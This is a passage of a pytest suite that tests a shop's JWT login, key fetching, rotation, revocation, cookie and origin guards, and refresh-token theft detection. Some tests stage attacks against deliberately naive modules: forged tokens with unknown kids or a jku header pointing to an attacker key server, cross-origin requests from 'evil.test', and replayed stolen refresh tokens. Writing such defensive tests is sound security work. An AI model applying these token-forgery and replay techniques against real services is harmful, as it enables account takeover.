import createError from '{errors}';
const failing = {{
  of_others: (status) => Object.assign(new Error('the user service'), {{ status }}),
  unexposed: () => createError(503),
  exposed_but_no_error: () => Object.assign(new Error('x'), {{ expose: true, status: 200 }}),
  away: () => new Unavailable('a service is away', {{ cause: new Error('Redis') }}),
  text: () => 'no error at all',
}};
export function createApp() {{
  const check = async (name, text) => {{ throw failing[name](JSON.parse(text)); }};
  const logger = {{ error: ({{ error }}, message) =>
    console.log('logged', message, '|', error.message ?? error, '|', error.cause?.message) }};
  const origins = ['{origin}'];
  return create({{ check, logger, origins, issue() {{}}, sessions: {{}},
    authenticate: async () => {{ throw failing.of_others(401); }} }});
}}
"""


def test_only_what_is_surely_the_clients_fault_or_an_outage_is_no_500_and_it_is_logged(
    tmp_path,
):
    path = tmp_path / "failing.mjs"
    errors = node.resolve("serve.mjs").parent / "node_modules/http-errors/index.js"
    path.write_text(
        FAILING.format(
            app=uri("app.mjs"),
            unavailable=uri("unavailable.mjs"),
            errors=errors.as_uri(),
            origin=ORIGIN,
        )
    )
    with node.serve(path) as server, Tab(server) as tab:

        def login(name: str, status: str = "null") -> int:
            body = {"email": name, "password": status}
            return tab.ask("POST", "/login", json=body).status_code

        for status in ("200", "204", "302", "401", "404", "99", '"x"', "1000", "null"):
            assert login("of_others", status) == 500, status
        assert login("unexposed") == login("exposed_but_no_error") == 500
        assert login("text") == 500
        assert login("away") == 503
        assert tab.status("GET", "/me") == 500  # a 401 would throw a good token away
        logged = [line for line in server.output().splitlines() if "logged" in line]
        assert len(logged) == 14
        assert logged[0] == "logged POST /login | the user service | undefined"
        assert logged[-2] == "logged POST /login | a service is away | Redis"
        assert logged[-1] == "logged GET /me | the user service | undefined"

        # what is in the body is the client's fault, and no secret of theirs is logged
        headers = {"Content-Type": "application/json"}
        for body, status in (('{"password": "correct', 400), (f'"{"x" * 2000}"', 413)):
            answer = tab.ask("POST", "/login", content=body, headers=headers)
            assert answer.status_code == status
        assert "correct" not in server.output()
        assert server.output().count("logged") == 14


def test_a_logout_that_could_not_take_the_access_token_back_says_so(shop):
    away = "revoke: async () => { throw new Error('the list is away'); }"
    with shop(deps=away) as server, Tab(server) as tab:
        answer = tab.login().ask("POST", "/logout")
        assert answer.status_code == 500
        assert "set-cookie" not in answer.headers
        assert "the list is away" in server.output()


def test_an_answer_that_had_begun_is_cut_and_the_failure_logged(shop):
    deps = """limits: [(req, res, next) => {
      res.write('begun');
      next(new Error('halfway'));
    }]"""
    with shop(deps=deps) as server, Tab(server) as tab:
        with pytest.raises(httpx.RemoteProtocolError):
            tab.ask("POST", "/login", json=ANN)
        assert "halfway" in server.output() and server.alive()
        assert tab.status("GET", "/me") == 401


def test_a_refusal_names_the_scheme_and_nobody_the_framework(shop):
    with shop() as server, Tab(server) as tab:
        answer = tab.ask("GET", "/me")
        assert answer.headers["www-authenticate"] == "Bearer"
        assert "x-powered-by" not in answer.headers


def test_the_shop_tells_who_listens_of_refusals_failures_and_redis(shop, redis_server):
    deps = """refused: ({ message }) => console.log('refused', message),
      logger: { error: ({ error }, what) => console.log('logged', what, error.message) }"""
    env = {"REDIS_URL": redis_server.url}
    with shop(env=env, deps=deps) as server, Tab(server, {ACCESS: "x"}) as tab:
        assert tab.status("GET", "/me") == 401
        assert "refused malformed" in server.output()
        tab.login()
        redis_server.stop()
        assert tab.status("GET", "/me") == 503
        assert "logged GET /me a service is away" in server.output()
        process.until(lambda: "logged Redis" in server.output())


def test_an_order_is_confirmed_when_it_has_been_placed_and_not_before(shop):
    deps = "place: async () => { throw new Error('the warehouse is away'); }"
    with shop(deps=deps) as server, Tab(server) as tab:
        assert tab.login().status("POST", "/orders") == 500
        assert "the warehouse is away" in server.output()
        assert tab.status("GET", "/me") == 200


def test_a_listener_for_refusals_that_fails_changes_no_answer_and_ends_nothing():
    done = node.evaluate(
        VERIFY
        + """
    const away = () => { throw new Error('the log is away'); };
    const never = () => new Promise(() => {});
    for (const create of Object.values(VERIFIERS)) {
      for (const refused of [away, async () => away(), never]) {
        const verify = create({ refused });
        const seen = [];
        for (const token of ['x', expired, good]) seen.push((await verify(token))?.sub);
        console.log(seen.join());
      }
    }
    await sleep(0); // a rejection that nobody handles would have ended the process
    """
    )
    assert done.stdout.splitlines() == [",,cus_ann"] * 6
    # two tokens, two verifiers, a listener that throws and one that rejects
    assert done.stderr.count("Error: the log is away") == 8


def test_every_refusal_is_told_with_its_reason():
    seen = node.evaluate(
        VERIFY
        + """
    for (const create of Object.values(VERIFIERS)) {
      const told = [];
      const verify = create({ refused: (error) => told.push(error.message) });
      for (const token of ['x', expired, nobody, good]) await verify(token);
      console.log(told.length, told[0], '/', told[2]);
    }
    """
    ).stdout
    assert seen.splitlines() == ["3 malformed / no subject"] * 2


# --- keys ---------------------------------------------------------------------------

ISSUER = """
import { createServer } from 'node:http';
import { once } from 'node:events';
import { generateKeyPair, exportJWK, SignJWT } from 'jose';
import { createVerifier, createTokens } from './jwt/jose.mjs';
import { createKeys } from './jwt/keys.mjs';
import { createKeys as naiveKeys } from './jwt/keys.naive.mjs';
let time = Date.now();
Date.now = () => time; // ours, and jose's
const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
async function issuer(kid) {
  const { privateKey, publicKey } = await generateKeyPair('ES256');
  const jwk = { ...(await exportJWK(publicKey)), kid, alg: 'ES256' };
  const it = { asked: 0, status: 200, keys: [jwk] };
  const server = createServer((req, res) => {
    it.asked += 1;
    res.statusCode = it.status;
    res.end(JSON.stringify({ keys: it.keys }));
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  it.url = `http://127.0.0.1:${server.address().port}/jwks`;
  it.stop = () => { server.close(); server.closeAllConnections(); };
  const key = { kid, alg: 'ES256', private: privateKey };
  it.issue = createTokens({ ...names, key });
  it.forge = (header) => new SignJWT({ sub: 'cus_admin' })
    .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid, ...header })
    .setIssuer(names.issuer).setAudience(names.audience)
    .setIssuedAt().setExpirationTime('5m').sign(privateKey);
  return it;
}
const ours = await issuer('ours');
const verifier = (keys) => createVerifier({ ...names, keys, algorithms: ['ES256'] });
const sub = async (verify, token) => {
  try { return (await verify(token))?.sub ?? null; } catch (error) { return error.status; }
};
"""


@pytest.mark.claim("jwt/kid-is-harmless")
def test_a_flood_of_unknown_kids_is_a_flood_of_fetches_unless_it_cools_down():
    seen = node.evaluate(
        ISSUER
        + """
    const mallory = await issuer('x');
    for (const create of [naiveKeys, createKeys]) {
      ours.asked = 0;
      const verify = verifier(create({ url: ours.url }));
      const genuine = await ours.issue({ id: 'cus_ann' });
      await sub(verify, genuine);
      const forged = await Promise.all(Array.from({ length: 100 }, (_, i) =>
        mallory.forge({ kid: `unknown ${i}` })));
      let taken = 0;
      for (const token of forged) taken += (await sub(verify, token)) !== null;
      console.log(ours.asked, taken, await sub(verify, genuine));
    }
    ours.stop();
    mallory.stop();
    """
    ).stdout
    assert seen.splitlines() == ["101 0 cus_ann", "1 0 cus_ann"]


def test_the_cooldown_of_jose_alone_is_of_no_use_while_the_issuer_fails():
    seen = node.evaluate(
        ISSUER
        + """
    import { createRemoteJWKSet } from 'jose';
    const mallory = await issuer('x');
    const plain = ({ url }) => createRemoteJWKSet(new URL(url));
    for (const create of [plain, createKeys]) {
      Object.assign(ours, { asked: 0, status: 200 });
      const verify = verifier(create({ url: ours.url }));
      const genuine = await ours.issue({ id: 'cus_ann' });
      const forged = await mallory.forge({ kid: 'unknown' });
      await sub(verify, genuine);
      time += 31_000; // the cooldown is over, the cache is not
      ours.status = 500;
      for (let i = 0; i < 50; i += 1) await sub(verify, forged);
      console.log(ours.asked, await sub(verify, genuine));
    }
    ours.stop();
    mallory.stop();
    """
    ).stdout
    assert seen.splitlines() == ["51 cus_ann", "2 cus_ann"]


def test_an_unknown_kid_is_looked_up_again_after_the_cooldown():
    seen = node.evaluate(
        ISSUER
        + """
    const next = await issuer('next');
    const verify = verifier(createKeys({ url: ours.url }));
    console.log(await sub(verify, await ours.issue({ id: 'cus_ann' })), ours.asked);
    ours.keys.push(...next.keys); // a new key, published
    console.log(await sub(verify, await next.issue({ id: 'cus_ann' })), ours.asked);
    time += 31_000;
    console.log(await sub(verify, await next.issue({ id: 'cus_ann' })), ours.asked);
    ours.stop();
    next.stop();
    """
    ).stdout
    assert seen.splitlines() == ["cus_ann 1", "null 1", "cus_ann 2"]


def test_a_token_without_a_kid_neither_passes_nor_stops_the_next_fetch():
    seen = node.evaluate(
        ISSUER
        + """
    const next = await issuer('next');
    ours.keys.push({ ...next.keys[0], kid: 'other' }); // several would do
    const verify = verifier(createKeys({ url: ours.url }));
    const forged = await next.forge({ kid: undefined });
    console.log(await sub(verify, forged), ours.asked);
    ours.keys.push(...next.keys);
    for (let i = 0; i < 3; i += 1) {
      time += 31_000;
      await sub(verify, forged);
    }
    const genuine = await next.issue({ id: 'cus_ann' });
    console.log(await sub(verify, genuine), ours.asked);
    ours.stop();
    next.stop();
    """
    ).stdout
    assert seen.splitlines() == ["null 1", "cus_ann 2"]


def test_an_algorithm_that_no_key_set_has_does_not_stop_the_next_fetch():
    seen = node.evaluate(
        ISSUER
        + """
    const next = await issuer('next');
    const keys = createKeys({ url: ours.url, cooldown: 1000 });
    const verify = createVerifier({ ...names, keys, algorithms: ['HS256', 'ES256'] });
    const head = Buffer.from('{"alg":"HS256","kid":"ours","typ":"at+jwt"}');
    const forged = `${head.toString('base64url')}.e30.AAAA`;
    console.log(await sub(verify, forged), ours.asked);
    ours.keys.push(...next.keys);
    time += 1001; // the cooldown is what we said, not what jose takes by itself
    console.log(await sub(verify, forged));
    console.log(await sub(verify, await next.issue({ id: 'cus_ann' })), ours.asked);
    ours.stop();
    next.stop();
    """
    ).stdout
    assert seen.splitlines() == ["null 1", "null", "cus_ann 2"]


def test_a_jku_header_chooses_the_naive_verifiers_key_and_whom_it_asks():
    seen = node.evaluate(
        ISSUER
        + """
    const mallory = await issuer('mallorys');
    for (const create of [naiveKeys, createKeys]) {
      mallory.asked = 0;
      const verify = verifier(create({ url: ours.url }));
      await sub(verify, await ours.issue({ id: 'cus_ann' }));
      const token = await mallory.forge({ jku: mallory.url });
      console.log(await sub(verify, token), mallory.asked);
    }
    ours.stop();
    mallory.stop();
    """
    ).stdout
    assert seen.splitlines() == ["cus_admin 1", "null 0"]


def test_an_issuer_that_is_away_is_503_before_the_first_key_and_nothing_after_it():
    seen = node.evaluate(
        ISSUER
        + """
    import { createAuthenticate } from './jwt/authenticate.mjs';
    const token = await ours.issue({ id: 'cus_ann' });
    const verify = verifier(createKeys({ url: ours.url }));
    ours.status = 500;
    console.log(await sub(verify, token));
    const authenticate = createAuthenticate({ verify });
    const req = { headers: { authorization: `bearer ${token}` } };
    console.log(await authenticate(req).catch((error) => error.status));
    time += 31_000;
    ours.status = 200;
    console.log((await authenticate(req)).id);
    ours.stop();
    time += 240_000; // the issuer is down for good
    console.log((await authenticate(req)).id, ours.asked);
    """
    ).stdout
    assert seen.splitlines() == ["503", "503", "cus_ann", "cus_ann 2"]


def test_a_cache_that_ran_out_while_the_issuer_is_down_is_used_on():
    seen = node.evaluate(
        ISSUER
        + """
    import { createRemoteJWKSet } from 'jose';
    const plain = ({ url }) => createRemoteJWKSet(new URL(url));
    for (const create of [plain, createKeys]) {
      ours.status = 200;
      const verify = verifier(create({ url: ours.url }));
      await sub(verify, await ours.issue({ id: 'cus_ann' }));
      time += 601_000; // past cacheMaxAge
      ours.status = 500;
      const token = await ours.issue({ id: 'cus_ann' });
      console.log(await sub(verify, token));
    }
    ours.stop();
    """
    ).stdout
    assert seen.splitlines() == ["null", "cus_ann"]


@pytest.mark.parametrize("silent", ["at once", "after the headers"])
def test_an_issuer_that_is_silent_is_503_and_then_nobody_waits_for_it(silent):
    seen = node.evaluate(
        ISSUER
        + f"""
    let asked = 0;
    const counted = (...given) => {{ asked += 1; return fetch(...given); }};
    const silent = createServer((req, res) => {{
      if ('{silent}' === 'after the headers') res.write('{{"keys": [');
    }}).listen(0, '127.0.0.1');
    await once(silent, 'listening');
    const url = `http://127.0.0.1:${{silent.address().port}}/`;
    const verify = verifier(createKeys({{ url, timeout: 200, fetch: counted }}));
    const token = await ours.issue({{ id: 'cus_ann' }});
    const watch = setTimeout(() => {{ console.log('waits'); process.exit(); }}, 4000);
    console.log(await sub(verify, token), await sub(verify, token), asked);
    clearTimeout(watch); // jose's own patience is five seconds
    silent.closeAllConnections();
    silent.close();
    ours.stop();
    """
    ).stdout
    assert seen.splitlines() == ["503 503 1"]


def test_keys_are_asked_for_again_when_they_are_old():
    seen = node.evaluate(
        ISSUER
        + """
    const next = await issuer('next');
    const verify = verifier(createKeys({ url: ours.url, maxAge: 1000, cooldown: 60_000 }));
    const old = await ours.issue({ id: 'cus_ann' });
    console.log(await sub(verify, old), ours.asked);
    ours.keys = next.keys; // the old key is taken back
    time += 1001;
    console.log(await sub(verify, old), ours.asked);
    ours.stop();
    next.stop();
    """
    ).stdout
    assert seen.splitlines() == ["cus_ann 1", "null 2"]


@pytest.mark.claim("jwt/rotation-logs-out")
def test_a_key_that_was_published_ahead_takes_over_without_a_refusal():
    naive, staged = output("rotate.mjs")
    assert naive.startswith("replaced at once: ") and " 0 of" not in naive
    assert staged == "published ahead: 0 of 2400 requests refused"


def test_the_ring_forgets_a_key_whose_last_token_has_expired():
    seen = node.evaluate(
        """
    import { createKeyRing } from './jwt/ring.mjs';
    let time = 0;
    const ring = createKeyRing({ ahead: 100, lifetime: 10, now: () => time });
    const seen = () => `${ring.jwks().keys.map(({ kid }) => kid)} ${ring.signing().kid}`;
    const found = [];
    await ring.add('a');
    found.push(seen());
    await ring.add('b');
    for (time of [0, 99, 100, 109, 110]) found.push(seen());
    console.log(found.join(' / '));
    console.log(ring.jwks().keys.some((jwk) => 'd' in jwk)); // the private part
    """
    ).stdout
    assert seen.splitlines() == [
        "a a / a,b a / a,b a / a,b b / a,b b / b b",
        "false",
    ]


# --- access and refresh -------------------------------------------------------------


@pytest.fixture(params=["memory", "redis"])
def stored(request, redis_server):
    """The environment of each store."""
    return {} if request.param == "memory" else {"REDIS_URL": redis_server.url}


def test_login_refresh_and_logout_by_cookie(shop, stored):
    with shop(env=stored) as server, Tab(server) as tab:
        assert tab.status("GET", "/me") == 401
        assert tab.ask("POST", "/login", json={**ANN, "password": "x"}).status_code == 401
        assert tab.ask("POST", "/login", json={}).status_code == 400
        answer = tab.ask("POST", "/login", json=ANN)
        for line in answer.headers.get_list("set-cookie"):
            flags = line.lower().split("; ")[1:]
            assert {"httponly", "secure", "samesite=strict", "path=/"} <= set(flags)
            assert not any(flag.startswith("domain") for flag in flags)
            # the access cookie goes with the browser, the other after thirty days
            ages = [flag for flag in flags if flag.startswith("max-age")]
            assert ages == (["max-age=2592000"] if line.startswith(REFRESH) else [])
        assert answer.headers["cache-control"] == "no-store"
        assert tab.ask("GET", "/me").json() == {"id": "cus_ann"}
        bearer = {"Authorization": f"Bearer {tab.cookies[ACCESS]}"}
        with server.client(headers=bearer) as other:
            assert other.get("/me").json() == {"id": "cus_ann"}

        before = dict(tab.cookies)
        assert tab.status("POST", "/refresh") == 204
        assert before[REFRESH] != tab.cookies[REFRESH]
        assert tab.status("POST", "/orders") == 201
        cleared = [tab.ask("POST", "/logout")]
        # what the browser forgot would be of no use either
        assert tab.status("GET", "/me") == 401
        cleared.append(tab.ask("POST", "/refresh"))
        assert [answer.status_code for answer in cleared] == [204, 401]
        for answer in cleared:
            lines = answer.headers.get_list("set-cookie")
            assert [line.split("=")[0] for line in lines] == [ACCESS, REFRESH]
            for line in lines:  # a browser ignores what a __Host- cookie may not be
                value, *flags = line.lower().split("; ")
                assert value.endswith("=") and any("1970" in flag for flag in flags)
                assert {"secure", "path=/"} <= set(flags)


def test_a_client_that_is_no_browser_shows_a_bearer_and_needs_no_origin(shop):
    with shop() as server, Tab(server) as tab:
        bearer = {"Authorization": f"Bearer {tab.login().cookies[ACCESS]}"}
        cookies = "; ".join(f"{name}={value}" for name, value in tab.cookies.items())
        for headers, status in (
            (bearer, 201),
            ({"Cookie": cookies}, 403),
            ({"Cookie": cookies, "Authorization": "Basic YTpi"}, 403),
            ({"Cookie": cookies, "Origin": "https://evil.test"}, 403),
            ({"Cookie": cookies, "Origin": "null"}, 403),
            ({"Cookie": cookies, "Origin": ORIGIN}, 201),
            ({"Origin": ORIGIN}, 401),
        ):
            with server.client(headers=headers) as c:
                assert c.post("/orders").status_code == status, headers


def test_a_cookie_is_found_by_its_whole_name():
    seen = node.evaluate(
        """
    import { ACCESS, REFRESH, cookieOf } from './jwt/cookies.mjs';
    const of = (cookie, name = ACCESS) => cookieOf({ headers: { cookie } }, name);
    console.log(of(`x${ACCESS}=a; ${ACCESS}2=b; ${ACCESS}=c=d; ${ACCESS}=e`));
    console.log(of(`${ACCESS}=a`, REFRESH), of(`${ACCESS}; ${ACCESS}`), of(undefined));
    """
    ).stdout
    assert seen.splitlines() == ["c=d", "undefined undefined undefined"]


def test_the_guard_takes_a_list_of_origins_and_no_text_that_contains_them():
    seen = node.evaluate(
        """
    import { fromOurOrigins } from './jwt/cookies.mjs';
    for (const origins of [undefined, 'https://shop.test', ['https://shop.test/'],
      ['shop.test'], ['null'], [''], [new URL('https://shop.test')]]) {
      try { fromOurOrigins(origins); console.log('made'); }
      catch (error) { console.log(error.message.startsWith('origins: not a list')); }
    }
    const guard = fromOurOrigins(['https://shop.com', 'https://shop.test']);
    const sent = (headers, method = 'POST') => {
      let status = 'next';
      guard({ method, headers }, { sendStatus: (code) => { status = code; } }, () => {});
      return status;
    };
    const seen = ['https://shop.com', 'https://shop.co', 'https://shop.test.evil.test',
      'null', '', undefined].map((origin) => sent({ origin }));
    console.log(seen.join());
    console.log(['bearer x', 'Bearer', 'Basic bearer x', 'xbearer y'].map((authorization) =>
      sent({ authorization })).join());
    for (const method of ['PUT', 'PATCH', 'DELETE', 'GET', 'HEAD']) {
      console.log(method, sent({}, method));
    }
    """
    ).stdout.splitlines()
    assert seen[:7] == ["true"] * 7
    assert seen[7] == "next,403,403,403,403,403"
    assert seen[8] == "next,403,403,403"
    assert seen[9:] == ["PUT 403", "PATCH 403", "DELETE 403", "GET next", "HEAD next"]


def test_who_shows_an_empty_bearer_is_not_known_by_the_cookie(shop):
    """Past the guard of origins comes whoever sends a bearer, so the cookie, which a
    browser adds by itself, must not count beside it."""
    with shop() as server, Tab(server) as tab:
        cookies = f"{ACCESS}={tab.login().cookies[ACCESS]}"
        for header in ("Bearer  x", "bearer x", "Bearer x.y.z"):
            headers = {"Cookie": cookies, "Authorization": header}
            with server.client(headers=headers) as c:
                assert c.post("/orders").status_code == 401, header
        # another scheme is somebody else's, and no way past the guard
        headers = {"Cookie": cookies, "Authorization": "Basic YTpi", "Origin": ORIGIN}
        with server.client(headers=headers) as c:
            assert c.post("/orders").status_code == 201


def test_who_is_asking_is_said_by_a_bearer_or_a_cookie_and_with_the_session():
    seen = node.evaluate(
        VERIFY
        + """
    import { createAuthenticate } from './jwt/authenticate.mjs';
    import { ACCESS } from './jwt/cookies.mjs';
    for (const create of Object.values(VERIFIERS)) {
      const authenticate = createAuthenticate({ verify: create({}) });
      const cookie = `${ACCESS}=${good}`;
      for (const headers of [{ authorization: `bEARER ${good}` }, { cookie },
        { cookie, authorization: 'Basic YTpi' }, { authorization: `xBearer ${good}` }, {}]) {
        console.log(JSON.stringify(await authenticate({ headers })));
      }
      const failing = createAuthenticate({ verify: create({}), revoked: async () => true });
      console.log(await failing({ headers: { cookie } }));
    }
    """
    ).stdout
    ann = '{"id":"cus_ann","sid":"s-1"}'
    assert seen.splitlines() == [ann, ann, ann, "null", "null", "null"] * 2


def test_a_revocation_outlives_every_token_that_a_verifier_would_take(redis_server):
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import {{ createRevocations }} from './jwt/revocations.mjs';
    const redis = new Redis('{redis_server.url}');
    for (const of of [{{ redis }}, {{}}]) {{
      const {{ revoke, revoked }} = createRevocations(of);
      await revoke('s-1');
      console.log(await revoked({{ sid: 's-1' }}), await revoked({{ sid: 's-2' }}),
        await revoked({{}}), await revoked({{ sid: '' }}));
    }}
    const left = await redis.pttl('revoked:s-1');
    console.log(left > 290_000 && left <= 310_000, await redis.pttl('revoked:s-2'));
    redis.disconnect();
    """
    ).stdout
    # a token that names no session could never be taken back
    assert seen.splitlines() == ["true false true true"] * 2 + ["true -2"]


def test_a_list_that_cannot_be_asked_or_told_is_an_outage_and_no_answer():
    seen = node.evaluate(
        """
    import { createRevocations } from './jwt/revocations.mjs';
    const away = async () => { throw new Error('read only'); };
    const { revoke, revoked } = createRevocations({ redis: { set: away, exists: away } });
    for (const asked of [revoke('s-1'), revoked({ sid: 's-1' })]) {
      console.log(await asked.catch(({ status, cause }) => `${status} ${cause.message}`));
    }
    """
    ).stdout
    assert seen.splitlines() == ["503 read only"] * 2


def test_the_last_token_of_a_revoked_session_is_refused_by_a_clock_that_is_behind():
    seen = node.evaluate(
        VERIFY
        + """
    import { createRevocations } from './jwt/revocations.mjs';
    const times = { lifetime: 300, leeway: 5 };
    let time = 1e12;
    const now = () => time;
    const behind = () => time - 5000;
    const { revoke, revoked } = createRevocations({ ...times, now });
    await revoke('s-1');
    const token = createTokens({ ...names, ...times, key, now })({ id: 'a', sid: 's-1' });
    const verify = VERIFIERS.hardened({ ...times, now: behind });
    let open = 0;
    for (; verify(token); time += 500) open += !(await revoked({ sid: 's-1' }));
    console.log(open, (time - 1e12) / 1000);
    await revoke('s-1'); // again: it lasts from now on
    time += 300_000;
    console.log(await revoked({ sid: 's-1' }));
    time += 10_000;
    console.log(await revoked({ sid: 's-1' }));
    """
    ).stdout
    assert seen.splitlines() == ["0 310", "true", "false"]


def test_a_month_of_lifetime_is_no_timer_that_overflows():
    seen = node.evaluate(
        """
    import { createRevocations } from './jwt/revocations.mjs';
    import { setTimeout as sleep } from 'node:timers/promises';
    const { revoke, revoked } = createRevocations({ lifetime: 30 * 86_400 });
    await revoke('s-1');
    await sleep(20); // a timer of 30 days would have fired after one millisecond
    console.log(await revoked({ sid: 's-1' }));
    """
    )
    assert (seen.stdout, seen.stderr) == ("true\n", "")


def test_an_old_revocation_makes_room_and_a_renewed_one_stays():
    seen = node.evaluate(
        """
    import { createRevocations } from './jwt/revocations.mjs';
    let time = 0;
    const { revoke, revoked } = createRevocations({ now: () => time });
    const deleted = [];
    const before = Map.prototype.delete;
    Map.prototype.delete = function (key) {
      const there = before.call(this, key);
      if (there) deleted.push(key);
      return there;
    };
    await revoke('first');
    await revoke('second');
    time += 200_000;
    await revoke('first');
    deleted.length = 0;
    time += 200_000;
    await revoke('third');
    console.log(deleted.join(), await revoked({ sid: 'first' }), await revoked({ sid: 'second' }));
    """
    ).stdout
    assert seen == "second true false\n"


@pytest.mark.claim("jwt/rotation-is-enough")
def test_a_stolen_refresh_token_is_the_thiefs_for_good_or_ends_the_session():
    thief_first = """
    import { randomBytes } from 'node:crypto';
    import { createSessions as naive } from './jwt/refresh.naive.mjs';
    import { createSessions } from './jwt/refresh.mjs';
    import { memoryStore } from './jwt/stores.mjs';
    let time = 0;
    const told = [];
    const sessions = createSessions({ store: memoryStore(), secret: randomBytes(32),
      now: () => time, reused: (user) => told.push(user) });
    for (const { start, rotate } of [naive(), sessions]) {
      const stolen = (await start('cus_ann')).token;
      const other = (await start('cus_ann')).token;
      let thief = (await rotate(stolen)).token;
      time += 60_000;
      const owner = await rotate(stolen);
      const after = [];
      for (let i = 0; i < 3; i += 1) {
        thief = (await rotate(thief))?.token;
        after.push(Boolean(thief));
        if (!thief) break;
        time += 60_000;
      }
      console.log(owner, after.join(), Boolean(await rotate(other)), told.join());
    }
    """
    assert node.evaluate(thief_first).stdout.splitlines() == [
        "null true,true,true true ",
        "null false true cus_ann",
    ]


def test_the_owner_who_refreshes_first_ends_the_session_by_the_thiefs_attempt(
    shop, stored
):
    with shop(env=stored, deps="") as server, Tab(server) as owner:
        owner.login()
        with Tab(server, owner.cookies) as thief:
            assert owner.status("POST", "/refresh") == 204
            assert owner.status("POST", "/refresh") == 204
            assert thief.status("POST", "/refresh") == 401  # two behind: no tab is
            assert owner.status("POST", "/refresh") == 401
            # the access tokens of the session went with it
            assert owner.status("GET", "/me") == 401
            assert owner.login().status("GET", "/me") == 200


def test_a_session_is_over_even_if_nobody_can_be_told_of_the_theft(stored):
    redis = stored.get("REDIS_URL", "")
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import {{ randomBytes }} from 'node:crypto';
    import {{ createSessions }} from './jwt/refresh.mjs';
    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
    const redis = '{redis}' && new Redis('{redis}');
    const store = redis ? redisStore(redis) : memoryStore();
    const reused = async () => {{ throw new Error('the list is away'); }};
    const sessions = createSessions({{ store, secret: randomBytes(32), grace: 0, reused }});
    const stolen = (await sessions.start('cus_ann')).token;
    const thief = (await sessions.rotate(stolen)).token;
    console.log(await sessions.rotate(stolen).catch((error) => error.message));
    console.log(await sessions.rotate(thief), await sessions.rotate(stolen));
    if (redis) redis.disconnect();
    """
    ).stdout
    assert seen.splitlines() == ["the list is away", "null null"]


def test_a_store_that_lost_its_last_writes_is_no_theft(redis_server):
    """A failover may lose what was not yet copied. Our signature tells that the token is
    genuine, so it is the store that is behind."""
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import {{ randomBytes }} from 'node:crypto';
    import {{ createSessions }} from './jwt/refresh.mjs';
    import {{ redisStore }} from './jwt/stores.mjs';
    const redis = new Redis('{redis_server.url}');
    const sessions = createSessions({{ store: redisStore(redis), secret: randomBytes(32),
      grace: 0 }});
    const {{ sid, token }} = await sessions.start('cus_ann');
    const second = (await sessions.rotate(token)).token;
    const third = (await sessions.rotate(second)).token;
    await redis.hset(`session:${{sid}}`, 'due', 0);
    const fourth = await sessions.rotate(third);
    console.log(fourth.user, await redis.hget(`session:${{sid}}`, 'due'));
    console.log(await sessions.rotate(second), await sessions.rotate(fourth.token));
    redis.disconnect();
    """
    ).stdout
    assert seen.splitlines() == ["cus_ann 3", "null null"]


def test_sessions_in_memory_are_no_more_than_it_was_told():
    seen = node.evaluate(
        """
    import { randomBytes } from 'node:crypto';
    import { createSessions } from './jwt/refresh.mjs';
    import { memoryStore } from './jwt/stores.mjs';
    let time = 0;
    const store = memoryStore({ most: 3, life: 1000 });
    const sessions = createSessions({ store, secret: randomBytes(32), now: () => time });
    const alive = async (list) => {
      const found = [];
      for (const { token } of list) found.push(Boolean(await sessions.rotate(token)));
      return found.join();
    };
    const first = [];
    for (let i = 0; i < 4; i += 1) first.push(await sessions.start(`cus_${i}`));
    console.log(await alive(first)); // the oldest made room
    time = 1000;
    console.log(await alive(first));
    await sessions.start('cus_ann'); // what has ended goes first
    console.log(await alive([await sessions.start('b'), await sessions.start('c')]));
    """
    ).stdout
    assert seen.splitlines() == [
        "false,true,true,true", "false,false,false,false", "true,true",
    ]  # fmt: skip


@pytest.mark.claim("jwt/tabs-trip-detection")
def test_twenty_tabs_that_refresh_at_once_all_go_on(redis_server):
    race = f"""
    import {{ Redis }} from 'ioredis';
    import {{ randomBytes }} from 'node:crypto';
    import {{ createSessions as naive }} from './jwt/refresh.naive.mjs';
    import {{ createSessions }} from './jwt/refresh.mjs';
    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
    const redis = new Redis('{redis_server.url}');
    const secret = randomBytes(32);
    const told = [];
    const make = (store, grace) =>
      createSessions({{ store, secret, grace, reused: () => told.push(1) }});
    for (const sessions of [naive(), make(memoryStore(), 0), make(redisStore(redis), 0),
      make(memoryStore()), make(redisStore(redis))]) {{
      const {{ token }} = await sessions.start('cus_ann');
      const tabs = await Promise.all(
        Array.from({{ length: 20 }}, () => sessions.rotate(token)));
      const kept = tabs.filter(Boolean);
      const next = await sessions.rotate(kept[0].token);
      console.log(kept.length, new Set(kept.map((tab) => tab.token)).size, next !== null,
        told.length);
      told.length = 0;
    }}
    redis.disconnect();
    """
    assert node.evaluate(race).stdout.splitlines() == [
        "1 1 true 0",  # nineteen tabs are logged out
        "1 1 false 1",  # all twenty, and an alarm
        "1 1 false 1",
        "20 1 true 0",  # nobody; all hold the same next token
        "20 1 true 0",
    ]


def test_a_grace_ends_and_a_thief_within_it_is_found_one_refresh_later(stored):
    redis = stored.get("REDIS_URL", "")
    seen = node.evaluate(
        f"""
    import {{ Redis }} from 'ioredis';
    import {{ randomBytes }} from 'node:crypto';
    import {{ createSessions }} from './jwt/refresh.mjs';
    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
    const redis = '{redis}' && new Redis('{redis}');
    let time = 1e12;
    const store = redis ? redisStore(redis) : memoryStore();
    const sessions = createSessions({{ store, secret: randomBytes(32), now: () => time }});
    const first = (await sessions.start('cus_ann')).token;
    time += 60_000; // the grace is counted from the use, not from the login
    const owner = (await sessions.rotate(first)).token;
    time += 9_999;
    const thief = (await sessions.rotate(first)).token;
    console.log(owner === thief); // within the grace: nothing is noticed
    time += 60_000;
    console.log(Boolean(await sessions.rotate(thief)));
    time += 60_000;
    console.log(await sessions.rotate(owner), await sessions.rotate(thief));

    const second = (await sessions.start('cus_ann')).token;
    await sessions.rotate(second);
    time += 10_000;
    console.log(await sessions.rotate(second));
    if (redis) redis.disconnect();
    """
    ).stdout
    assert seen.splitlines() == ["true", "true", "null null", "null"]


def test_made_up_refresh_tokens_never_reach_the_store():
    seen = node.evaluate(
        """
    import { randomBytes } from 'node:crypto';
    import { createSessions } from './jwt/refresh.mjs';
    import { memoryStore } from './jwt/stores.mjs';
    let asked = 0;
    const inner = memoryStore();
